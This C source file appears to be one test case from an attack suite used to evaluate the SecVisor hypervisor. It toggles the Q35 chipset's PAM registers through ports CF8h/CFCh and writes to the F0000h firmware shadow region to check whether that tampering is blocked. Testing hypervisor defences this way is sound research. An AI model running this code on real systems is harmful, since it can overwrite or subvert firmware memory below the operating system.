// Row 26. The host bridge's PAM registers by CF8h/CFCh: RAM exchanged for what lies beneath it, here the firmware's.
// Source: Q35 datasheet, 5.1.21; physical decoding as a premise.
// Ends: natively succeeded; beneath SecVisor refused, port.
#include "common/attack.h"

static u64 config(u8 offset)
{
	operate(VULNERABLE_OUT, 0xcf8, 4, 0x80000000u | (offset & 0xfc));
	return operate(VULNERABLE_IN, 0xcfc + (offset & 3), 1, 0);
}

static void set_config(u8 offset, u8 value)
{
	operate(VULNERABLE_OUT, 0xcf8, 4, 0x80000000u | (offset & 0xfc));
	operate(VULNERABLE_OUT, 0xcfc + (offset & 3), 1, value);
}

ATTACK("pam-port")
{
	// PAM0, bits 4 and 5: whether reads and writes of F0000h to FFFFFh reach RAM.
	u64 window = map_physical(0xf0000, KERNEL_DATA), before = config(0x90), was, now;

	set_config(0x90, before | 0x30);
	was = kread64(window);
	operate(VULNERABLE_STORE, window, ~was, 8);
	now = kread64(window);
	operate(VULNERABLE_STORE, window, was, 8);
	set_config(0x90, before & ~0x30);
	u64 other = kread64(window);
	set_config(0x90, before);
	if (now == ~was)
		succeeded("F0000h was %#llx, became %#llx, and without RAM is %#llx", (unsigned long long)was,
			  (unsigned long long)now, (unsigned long long)other);
	refused("F0000h cannot be written: it stays %#llx", (unsigned long long)was);
}
